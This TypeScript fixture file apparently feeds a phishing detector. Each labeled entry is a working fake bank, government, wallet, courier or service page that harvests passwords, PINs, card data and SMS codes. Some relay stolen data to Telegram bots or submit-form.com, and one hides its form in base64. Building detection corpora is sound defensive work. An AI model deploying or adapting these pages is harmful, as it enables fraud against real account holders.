import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardJs, countdown, doc, mark, mobileCss, otpBoxes, siteCss, tgRelay } from '../parts/zu-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zu-ziraat-sms-sifre-kit',
  label: 'phishing',
  kind: 'bank-kit-otp',
  url: 'https://ziraat-bireysel-giris.com/tr/',
  body: doc({
    title: 'Ziraat Bankası | Bireysel İnternet Şubesi',
    lang: 'tr',
    css: mobileCss('#e30a17') + '.steps{display:flex;gap:6px;margin-bottom:12px}.steps span{flex:1;height:4px;background:#eee;border-radius:2px}.steps span.on{background:#e30a17}',
    body: `<header class="top">${mark('#fff', 'ZB', '#e30a17')}<span class="brand">Ziraat Bankası</span></header>
<main class="wrap"><div class="card">
<div class="steps"><span class="on"></span><span></span><span></span></div>
<h1>İnternet Şubesi Girişi</h1>
<p>Hesabınızda olağan dışı işlem tespit edilmiştir. Güvenliğiniz için kimlik doğrulamasını tamamlayınız, aksi halde kartınız 24 saat içinde kullanıma kapatılacaktır.</p>
<form id="lg" method="post" action="next.php">
<label for="tc">T.C. Kimlik Numarası / Müşteri Numarası</label><input id="tc" name="tc" inputmode="numeric" maxlength="11" required>
<label for="sf">İnternet Şubesi Şifresi</label><input id="sf" name="sifre" type="password" inputmode="numeric" maxlength="6" required>
<label for="tel">Cep Telefonu</label><input id="tel" name="tel" placeholder="05xx xxx xx xx" required>
<button type="submit">Devam</button>
</form>
<p class="muted">Şifremi unuttum · Yardım: 0850 220 00 00</p>
</div></main>
<footer class="foot">© T.C. Ziraat Bankası A.Ş. Tüm hakları saklıdır.</footer>
<script>document.getElementById("tc").addEventListener("input",function(){this.value=this.value.replace(/\\D/g,"")});</script>`,
  }),
  routes: {
    'ziraat-bireysel-giris.com/tr/next.php': htmlRoute(doc({
      title: 'Ziraat Bankası | Doğrulama',
      lang: 'tr',
      css: mobileCss('#e30a17'),
      body: `<header class="top"><span class="brand">Ziraat Bankası</span></header><main class="wrap"><div class="card"><h1>SMS Doğrulama</h1><p>05** *** ** ** numaralı telefonunuza gönderilen 6 haneli onay kodunu giriniz. Kodu kimseyle paylaşmayınız.</p><form method="post" action="sms.php">${otpBoxes(6, 'smskod')}<p class="muted">Kalan süre: <b id="cd">03:00</b></p><button>Onayla</button></form></div></main>${countdown('cd', 180)}`,
    })),
  },
},
{
  id: 'zu-edevlet-vergi-iadesi',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: 'https://turkiye-gov-iade.online/basvuru/',
  body: doc({
    title: 'e-Devlet Kapısı - Vergi İadesi Başvurusu',
    lang: 'tr',
    css: siteCss('#c8102e') + '.gov{background:#fff;border-top:6px solid #c8102e;box-shadow:0 1px 4px #0002}.amount{font-size:30px;color:#0a7d32;font-weight:700}',
    body: `<div class="bar"><div class="in"><a class="logo" href="#">türkiye.gov.tr</a><span>e-Devlet Kapısı</span></div></div>
<div class="content"><div class="grid"><div class="panel gov">
<h2>2024 Yılı Fazla Ödenen Vergi İadesi</h2>
<p>Gelir İdaresi Başkanlığı kayıtlarına göre adınıza iade tutarı tanımlanmıştır.</p>
<div class="amount">2.847,60 TL</div>
<p>İadenin banka kartınıza aktarılabilmesi için aşağıdaki bilgileri eksiksiz doldurunuz. Başvuru süresi: <b>bugün 23:59</b>.</p>
<form method="post" action="/basvuru/kart.php" id="iade">
<label>T.C. Kimlik No</label><input name="tckn" maxlength="11" required>
<label>Ad Soyad</label><input name="adsoyad" required>
<label>e-Devlet Şifresi</label><input type="password" name="edevlet_sifre" required>
${cardFields({ num: 'İade yapılacak kart numarası', exp: 'Son Kullanma', cvv: 'CVV' })}
<button>İadeyi Başlat</button></form></div>
<div class="panel"><h3>Nasıl çalışır?</h3><ol><li>Kimlik doğrulama</li><li>Kart doğrulama (0,00 TL provizyon)</li><li>3D Secure onayı</li><li>İade 1-3 iş günü içinde hesabınızda</li></ol></div></div></div>
<div class="sitefoot"><div class="in">T.C. Cumhurbaşkanlığı Dijital Dönüşüm Ofisi · Hazine ve Maliye Bakanlığı</div></div>${cardJs}`,
  }),
},
{
  id: 'zu-turkcell-puan-hediye-tg',
  label: 'phishing',
  kind: 'carrier-kit-telegram',
  url: 'https://turkcell-hediye-puan.xyz/',
  body: doc({
    title: 'Turkcell | 30.000 Puan Hediye',
    lang: 'tr',
    css: mobileCss('#1a3d7c') + '.gift{text-align:center;font-size:46px}.big{font-size:26px;color:#ffc20e;font-weight:800;text-align:center}',
    body: `<header class="top">${mark('#ffc20e', 'T', '#1a3d7c')}<span class="brand">Turkcell</span></header>
<main class="wrap"><div class="card"><div class="gift">🎁</div><div class="big">30.000 Paycell Puanı</div>
<p>Turkcell 30. yıl kampanyası kapsamında hattınıza tanımlanan puanlar bugün sona eriyor. Puanlarınızı Paycell kartınıza aktarmak için hattınızı doğrulayın.</p>
<form id="pf" action="#"><label>Turkcell Numaranız</label><input name="gsm" placeholder="5xx xxx xx xx" required>
<label>Paycell Kart Numarası</label><input name="kart" maxlength="19" required><div class="row"><div><label>SKT</label><input name="skt" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<label>Kart Limitiniz</label><input name="limit" placeholder="₺"><button>Puanları Aktar</button></form></div>
<p class="muted" style="text-align:center">Kampanyaya katılan: <b id="cnt">18.442</b></p></main>
${tgRelay({ form: 'pf', token: '7034419822:AAGx3kq_Vd1Lr0mZpPqYw9sT8eN2cH5uBfA', chat: '-1002147733190', next: '/bekle.html', prefix: '💳 TCELL', ip: true })}`,
  }),
  routes: {
    'turkcell-hediye-puan.xyz/bekle.html': htmlRoute(doc({ title: 'İşleminiz yapılıyor', lang: 'tr', css: mobileCss('#1a3d7c'), body: '<main class="wrap"><div class="card"><div class="spinner"></div><p style="text-align:center">Bankanızdan gelecek SMS kodunu bekleyiniz...</p><form method="post" action="sms.php"><input name="sms" maxlength="6" inputmode="numeric"><button>Gönder</button></form></div></main>' })),
  },
},
{
  id: 'zu-mpesa-reversal-pin',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://mpesa-reversal.co.ke-support.top/reverse',
  body: doc({
    title: 'M-PESA Transaction Reversal',
    lang: 'en',
    css: mobileCss('#00a651') + '.tx{font-family:monospace;background:#f0faf3;padding:10px;border-radius:6px;font-size:13px}',
    body: `<header class="top">${mark('#fff', 'M', '#00a651')}<span class="brand">M-PESA | Safaricom</span></header>
<main class="wrap"><div class="card"><h2>Reverse a transaction / Rudisha pesa</h2>
<div class="tx">SFK7H2L9QP Confirmed. Ksh4,500.00 sent to JOHN KAMAU 0722xxx481 on 14/3/25 at 9:12 AM.</div>
<p>Umetuma pesa kwa nambari isiyo sahihi? Jaza fomu hii kuthibitisha akaunti yako na ombi litashughulikiwa ndani ya dakika 30.</p>
<form id="rv" action="#"><label>Safaricom number</label><input name="msisdn" placeholder="07XX XXX XXX" required>
<label>Full names (as on ID)</label><input name="names" required>
<label>ID number</label><input name="idno" required>
<label>M-PESA PIN</label><input name="pin" type="password" inputmode="numeric" maxlength="4" required>
<label>M-PESA balance (approx.)</label><input name="bal"><button>Submit Reversal</button></form>
<p class="muted">Safaricom will never ask for your PIN over the phone.</p></div></main>
${tgRelay({ form: 'rv', token: '6612093875:AAF8wQ2vN3kLr7Jt1xZc0yHbMsPe4dGaRuo', chat: '5528120374', next: 'https://www.safaricom.co.ke/', prefix: 'MPESA REV' })}`,
  }),
},
{
  id: 'zu-absher-otp-tahdith',
  label: 'phishing',
  kind: 'gov-kit-otp',
  url: 'https://absher-sa-tahdith.com/ar/login',
  body: doc({
    title: 'أبشر - تحديث البيانات',
    lang: 'ar',
    dir: 'rtl',
    css: mobileCss('#008755') + 'body{font-family:Tahoma,"Segoe UI",Arial,sans-serif}',
    body: `<header class="top">${mark('#fff', 'أبشر', '#008755')}<span class="brand">أبشر أفراد</span></header>
<main class="wrap"><div class="card"><h2>تسجيل الدخول</h2>
<div class="alert">تم إيقاف خدماتك مؤقتاً لعدم تحديث بياناتك. يرجى التحديث خلال 24 ساعة لتجنب إيقاف الهوية الرقمية.</div>
<form id="ab" method="post" action="/ar/verify.php"><label>اسم المستخدم أو رقم الهوية</label><input name="user" required>
<label>كلمة المرور</label><input type="password" name="pass" required>
<label>رقم الجوال المسجل</label><input name="mobile" placeholder="05xxxxxxxx" required>
<button>تسجيل الدخول</button></form><p class="muted">وزارة الداخلية - المملكة العربية السعودية</p></div></main>`,
  }),
  routes: {
    'absher-sa-tahdith.com/ar/verify.php': htmlRoute(doc({ title: 'أبشر - رمز التحقق', lang: 'ar', dir: 'rtl', css: mobileCss('#008755'), body: `<main class="wrap"><div class="card"><h2>رمز التحقق</h2><p>تم إرسال رمز التحقق إلى جوالك. لا تشاركه مع أحد.</p><form method="post" action="/ar/otp.php">${otpBoxes(4, 'otp')}<p class="muted">إعادة الإرسال بعد <b id="t">01:00</b></p><button>تحقق</button></form></div></main>${countdown('t', 60)}` })),
  },
},
{
  id: 'zu-cib-egypt-docwrite',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://cib-online-eg.net/ibank/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>CIB</title><meta name="robots" content="noindex,nofollow"></head><body><script>
var _p="${b64(doc({
    title: 'CIB Online Banking',
    lang: 'en',
    css: siteCss('#003b71') + '.login{max-width:420px;margin:40px auto}',
    body: `<div class="bar"><div class="in"><span class="logo">CIB</span><span>Commercial International Bank - Egypt</span></div></div>
<div class="content"><div class="panel login"><h2>Online Banking Login</h2><p>For your security, please re-activate your online banking profile. / لحماية حسابك يرجى إعادة تفعيل الخدمة</p>
<form method="post" action="https://cib-online-eg.net/ibank/auth.php"><label>User ID</label><input name="uid" required><label>Password</label><input type="password" name="pwd" required><label>Mobile number registered with CIB</label><input name="mob" placeholder="01xxxxxxxxx"><label>Debit card last 6 digits + PIN</label><div class="row" style="display:flex;gap:8px"><input name="c6" maxlength="6"><input name="atm" type="password" maxlength="4"></div><button>Login</button></form></div></div>`,
  }))}";
document.write(decodeURIComponent(escape(atob(_p))));
</script><noscript>Please enable JavaScript.</noscript></body></html>`,
},
{
  id: 'zu-barid-maroc-colis-frais',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://barid-ma.colis-livraison.com/suivi/',
  body: doc({
    title: 'Barid Al-Maghrib - Suivi de colis',
    lang: 'fr',
    css: mobileCss('#f6b400', '#f7f7f2') + 'header.top{color:#003a70}',
    body: `<header class="top">${mark('#003a70', 'BAM', '#f6b400')}<span class="brand">Poste Maroc</span></header>
<main class="wrap"><div class="card"><h2>Votre colis est en attente</h2>
<p>Nous n'avons pas pu livrer votre colis <b>CP872216514MA</b> en raison d'une adresse incomplète. Des frais de reprogrammation de <b>12,50 MAD</b> sont requis.</p>
<form method="post" action="/suivi/paiement.php"><label>Nom complet</label><input name="nom" required><label>Adresse</label><input name="adresse" required><label>Ville</label><input name="ville" required><label>Téléphone</label><input name="tel" placeholder="06 xx xx xx xx" required>
${cardFields({ num: 'Numéro de carte', exp: 'Expiration', cvv: 'CVV' })}<button>Payer 12,50 MAD</button></form></div></main>${cardJs}`,
  }),
},
{
  id: 'zu-cih-bank-otp-fr',
  label: 'phishing',
  kind: 'bank-kit-otp',
  url: 'https://cihnet-securite.com/particuliers/connexion',
  body: doc({
    title: 'CIH Bank - CIH Net Particuliers',
    lang: 'fr',
    css: mobileCss('#0a8fd1'),
    body: `<header class="top">${mark('#fff', 'CIH', '#0a8fd1')}<span class="brand">CIH NET</span></header>
<main class="wrap"><div class="card"><h1>Connexion</h1><div class="alert">Suite à la mise à jour de notre système de sécurité, vous devez activer votre nouveau code d'authentification.</div>
<form method="post" action="step2.php" id="c"><label>Identifiant</label><input name="identifiant" required><label>Mot de passe</label><input type="password" name="mdp" required><button>Se connecter</button></form></div>
<div class="card"><p class="muted">Service client : 05 22 47 90 00</p></div></main>
<script>document.getElementById("c").addEventListener("submit",function(){localStorage.setItem("u",this.identifiant.value)});</script>`,
  }),
  routes: {
    'cihnet-securite.com/particuliers/step2.php': htmlRoute(doc({ title: 'CIH Bank - Code de confirmation', lang: 'fr', css: mobileCss('#0a8fd1'), body: `<main class="wrap"><div class="card"><h2>Code de confirmation</h2><p>Saisissez le code reçu par SMS pour valider l'activation.</p><form method="post" action="step3.php">${otpBoxes(6, 'code')}<label>Numéro de carte</label><input name="carte" maxlength="19"><label>Date d'expiration</label><input name="exp"><label>CVV</label><input name="cvv" maxlength="3"><button>Valider</button></form></div></main>` })),
  },
},
{
  id: 'zu-opay-account-restricted',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://opay-restricted-help.com/unlock',
  body: doc({
    title: 'OPay - Unlock Account',
    css: mobileCss('#1dcf9f'),
    body: `<header class="top"><span class="brand">OPay</span></header><main class="wrap"><div class="card"><h2>Your wallet is restricted</h2><p>We noticed a login from an unrecognised device. To restore access, confirm your details below.</p>
<form method="post" action="https://opay-restricted-help.com/api/login.php"><label>Phone number</label><input name="phone" placeholder="+234" required><label>6-digit login PIN</label><input name="login_pin" type="password" maxlength="6" required><label>4-digit payment PIN</label><input name="pay_pin" type="password" maxlength="4" required><button>Unlock</button></form></div></main>`,
  }),
},
{
  id: 'zu-privat24-dopomoga-vyplata',
  label: 'phishing',
  kind: 'bank-kit-card',
  url: 'https://dopomoga-ua.org.ua-vyplaty.com/privat24',
  body: doc({
    title: 'Приват24 — Отримання виплати',
    lang: 'uk',
    css: mobileCss('#6ab245') + '.sum{font-size:28px;font-weight:700;color:#2e7d32}',
    body: `<header class="top">${mark('#fff', 'П24', '#6ab245')}<span class="brand">Приват24</span></header>
<main class="wrap"><div class="card"><h2>Грошова допомога від ЄС</h2><p>Вам нараховано одноразову виплату внутрішньо переміщеним особам:</p><div class="sum">6 500 ₴</div>
<p>Для зарахування коштів увійдіть до Приват24 та підтвердіть картку.</p>
<form method="post" action="login.php"><label>Номер телефону</label><input name="phone" value="+380" required><label>Пароль Приват24</label><input name="password" type="password" required>
${cardFields({ num: 'Номер картки', exp: 'Термін дії', cvv: 'CVV2' })}<label>Баланс картки</label><input name="balance"><button>Отримати виплату</button></form></div></main>${cardJs}`,
  }),
},
{
  id: 'zu-kaspi-kz-sms-kod-ru',
  label: 'phishing',
  kind: 'bank-kit-otp',
  url: 'https://kaspi-kz.bonus-vozvrat.com/login',
  body: doc({
    title: 'Kaspi.kz — Вход',
    lang: 'ru',
    css: mobileCss('#f14635'),
    body: `<header class="top">${mark('#fff', 'K', '#f14635')}<span class="brand">Kaspi.kz</span></header>
<main class="wrap"><div class="card"><h2>Возврат бонусов Kaspi Red</h2><p>На ваш счёт начислено 38 400 ₸ бонусов за 2024 год. Бонусы сгорают через 24 часа. Войдите, чтобы перевести их на Kaspi Gold.</p>
<form method="post" action="/login/code.php" id="k"><label>Номер телефона</label><input name="phone" value="+7 (7" required><label>Пароль</label><input name="password" type="password" required><button>Продолжить</button></form></div></main>`,
  }),
  routes: {
    'kaspi-kz.bonus-vozvrat.com/login/code.php': htmlRoute(doc({ title: 'Kaspi.kz — Код', lang: 'ru', css: mobileCss('#f14635'), body: `<main class="wrap"><div class="card"><h2>Введите код из SMS</h2><p>Код отправлен на номер +7 (7**) ***-**-14. Никому не сообщайте код — кроме этой страницы.</p><form method="post" action="/login/done.php">${otpBoxes(4, 'sms')}<button>Подтвердить</button></form></div></main>` })),
  },
},
{
  id: 'zu-egov-kz-kazakh-eds',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://egov-kz.tolem-qaitaru.com/kk/',
  body: doc({
    title: 'eGov.kz — Электрондық үкімет',
    lang: 'kk',
    css: siteCss('#0a6fb7') + '.box{max-width:460px;margin:30px auto}',
    body: `<div class="bar"><div class="in"><span class="logo">eGov.kz</span><span>Қазақстан Республикасының электрондық үкіметі</span></div></div>
<div class="content"><div class="panel box"><h2>Әлеуметтік төлемді алу</h2><p>Сізге 42 500 ₸ мөлшерінде біржолғы әлеуметтік төлем тағайындалды. Төлемді алу үшін жеке басыңызды растаңыз.</p>
<form method="post" action="/kk/auth.php"><label>ЖСН (ИИН)</label><input name="iin" maxlength="12" required><label>Құпия сөз</label><input type="password" name="password" required><label>Телефон нөмірі</label><input name="phone" value="+7" required><label>Төлем картасы</label><input name="card" maxlength="19" required><div style="display:flex;gap:8px"><input name="exp" placeholder="АА/ЖЖ"><input name="cvv" placeholder="CVV" maxlength="3"></div><button>Растау</button></form></div></div>`,
  }),
},
{
  id: 'zu-roundcube-corp-ke',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://mail-savannahagro.co.ke.quota-mailbox.com/roundcube/?_task=login#ai5tdXRodWFAc2F2YW5uYWhhZ3JvLmNvLmtl',
  body: doc({
    title: 'savannahagro.co.ke :: Welcome to Roundcube Webmail',
    css: 'body{background:#e5eaee;font-family:Roboto,Arial,sans-serif}#login{width:360px;margin:90px auto;background:#fff;padding:34px;border-radius:4px;box-shadow:0 1px 6px #0002}#login h1{font-size:22px;color:#37beff;margin:0 0 18px}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #ccc;border-radius:3px}button{width:100%;padding:10px;background:#37beff;color:#fff;border:0;border-radius:3px;font-size:15px}.note{font-size:13px;color:#a33;background:#fff3f3;padding:8px;border-radius:3px}',
    body: `<div id="login"><h1>Roundcube Webmail</h1><p class="note">Your mailbox has reached 98% of its 2 GB quota. Incoming mail will be held until you re-validate. Log in to upgrade free of charge.</p>
<form name="form" method="post" action="https://mail-savannahagro.co.ke.quota-mailbox.com/roundcube/rc.php"><input type="hidden" name="_task" value="login"><label>Username</label><input name="_user" id="rcmloginuser" autocomplete="username"><label>Password</label><input name="_pass" id="rcmloginpwd" type="password"><button type="submit">Login</button></form></div>
<script>try{var h=location.hash.slice(1);if(h){document.getElementById("rcmloginuser").value=atob(h);document.getElementById("rcmloginuser").readOnly=true;document.title=atob(h).split("@")[1]+" :: Welcome to Roundcube Webmail"}}catch(e){}</script>`,
  }),
},
{
  id: 'zu-netflix-tr-odeme-guncelle',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-tr-uyelik.com/odeme/',
  body: doc({
    title: 'Netflix',
    lang: 'tr',
    css: 'body{background:#000;color:#fff;font-family:Arial}.w{max-width:440px;margin:40px auto;background:rgba(0,0,0,.75);padding:50px 60px;border-radius:4px}.logo{color:#e50914;font-size:38px;font-weight:900;letter-spacing:-1px}input{width:100%;padding:14px;background:#333;border:0;color:#fff;border-radius:4px;margin:8px 0}button{width:100%;padding:14px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:16px;margin-top:16px}.row{display:flex;gap:8px}',
    body: `<div style="padding:20px 40px"><span class="logo">NETFLIX</span></div><div class="w"><h2>Üyeliğiniz askıya alındı</h2><p>Son ödemeniz bankanız tarafından reddedildi. Hizmetin kesintisiz devam etmesi için ödeme bilgilerinizi güncelleyin.</p><form method="post" action="/odeme/kaydet.php"><input name="ad" placeholder="Kart üzerindeki isim"><input name="kart" placeholder="Kart numarası"><div class="row"><input name="skt" placeholder="AA/YY"><input name="cvv" placeholder="CVV"></div><button>Üyeliği Sürdür</button></form></div>`,
  }),
},
{
  id: 'zu-instagram-telif-itiraz',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://help-instagram-copyright.com/itiraz/formu/88213',
  body: doc({
    title: 'Instagram Help Center | Telif Hakkı',
    lang: 'tr',
    css: siteCss('#262626') + '.bar{background:linear-gradient(90deg,#f58529,#dd2a7b,#8134af)}.box{max-width:520px;margin:20px auto}',
    body: `<div class="bar"><div class="in"><span class="logo">Instagram</span><span>Help Center</span></div></div><div class="content"><div class="panel box"><h2>Telif Hakkı İhlali Bildirimi</h2><p>Hesabınızda paylaşılan bir gönderi telif hakkı ihlali nedeniyle şikâyet edildi. 24 saat içinde itiraz etmezseniz hesabınız kalıcı olarak silinecektir.</p>
<form method="post" action="/itiraz/formu/88213/pw.php"><label>Kullanıcı adı</label><input name="username" required><label>Şikâyetin neden hatalı olduğunu açıklayın</label><textarea name="aciklama" rows="3"></textarea><label>Hesabınızın şifresi (doğrulama için)</label><input name="password" type="password" required><button>İtiraz Gönder</button></form></div></div>`,
  }),
},
{
  id: 'zu-diia-eposvidchennia-json',
  label: 'phishing',
  kind: 'gov-kit-relay',
  url: 'https://diia-gov-ua.pidtverdzhennia.site/',
  body: doc({
    title: 'Дія — Підтвердження особи',
    lang: 'uk',
    css: mobileCss('#000', '#e2ecf4'),
    body: `<header class="top"><span class="brand">Дія</span></header><main class="wrap"><div class="card"><h2>єПідтримка: отримайте 1000 ₴</h2><p>Для нарахування виплати підтвердіть картку, на яку бажаєте отримати кошти. Кошти надходять протягом 15 хвилин.</p>
<form id="d"><label>ПІБ</label><input name="pib" required><label>РНОКПП (ІПН)</label><input name="ipn" maxlength="10" required>${cardFields({ num: 'Номер картки', exp: 'Термін', cvv: 'CVV' })}<button>Підтвердити</button></form><div class="err" id="e">Помилка. Спробуйте ще раз.</div></div></main>${cardJs}
<script>document.getElementById("d").addEventListener("submit",function(ev){ev.preventDefault();var b=Object.fromEntries(new FormData(this));fetch("https://submit-form.com/Xk29aPq1",{method:"POST",headers:{"Content-Type":"application/json",Accept:"application/json"},body:JSON.stringify(b)}).then(function(){location.href="/sms.html"})});</script>`,
  }),
},
{
  id: 'zu-stcpay-wallet-verify',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://stcpay-verify.com/sa/login',
  body: doc({
    title: 'STC Pay | تسجيل الدخول',
    lang: 'ar',
    dir: 'rtl',
    css: mobileCss('#4f008c') + 'body{font-family:Tahoma,Arial}',
    body: `<header class="top"><span class="brand">stc pay</span></header><main class="wrap"><div class="card"><h2>تحديث بيانات المحفظة</h2><p>تم تعليق محفظتك بسبب عدم اكتمال التحقق من الهوية (KYC). أكمل التحقق لاستعادة رصيدك.</p>
<form method="post" action="/sa/login/step2"><label>رقم الجوال</label><input name="mobile" value="05" required><label>رمز الدخول</label><input type="password" name="passcode" maxlength="6" required><label>رقم الهوية / الإقامة</label><input name="iqama" maxlength="10"><label>تاريخ الميلاد</label><input name="dob" type="date"><button>متابعة</button></form></div></main>`,
  }),
},
{
  id: 'zu-kazpost-posylka-kk-ru',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://kazpost-tracking.kz-delivery.info/track',
  body: doc({
    title: 'Казпочта — Отслеживание',
    lang: 'ru',
    css: mobileCss('#1f5aa6'),
    body: `<header class="top"><span class="brand">Қазпошта / Казпочта</span></header><main class="wrap"><div class="card"><h2>Посылка ожидает оплаты</h2><p>Сәлеметсіз бе! Ваша посылка <b>CN208815533KZ</b> задержана на сортировочном центре Алматы. Оплатите доставку <b>490 ₸</b>.</p>
<form method="post" action="/track/pay">${cardFields({ num: 'Номер карты', exp: 'ММ/ГГ', cvv: 'CVV', name: 'Имя владельца' })}<button>Оплатить 490 ₸</button></form></div></main>${cardJs}`,
  }),
},
{
  id: 'zu-aramex-uae-customs-ar',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://aramex-uae.delivery-hold.com/ar/pay',
  body: doc({
    title: 'أرامكس | رسوم التوصيل',
    lang: 'ar',
    dir: 'rtl',
    css: mobileCss('#e41e26') + 'body{font-family:Tahoma,Arial}',
    body: `<header class="top"><span class="brand">Aramex أرامكس</span></header><main class="wrap"><div class="card"><h2>شحنتك معلقة</h2><p>رقم الشحنة: 48812097533. الشحنة محجوزة لدى الجمارك. يرجى دفع 7.50 درهم لإعادة جدولة التوصيل.</p>
<form method="post" action="/ar/pay/card.php"><label>الاسم الكامل</label><input name="name"><label>العنوان في الإمارات</label><input name="address">${cardFields({ num: 'رقم البطاقة', exp: 'تاريخ الانتهاء', cvv: 'CVV' })}<button>ادفع 7.50 درهم</button></form></div></main>${cardJs}`,
  }),
},
];
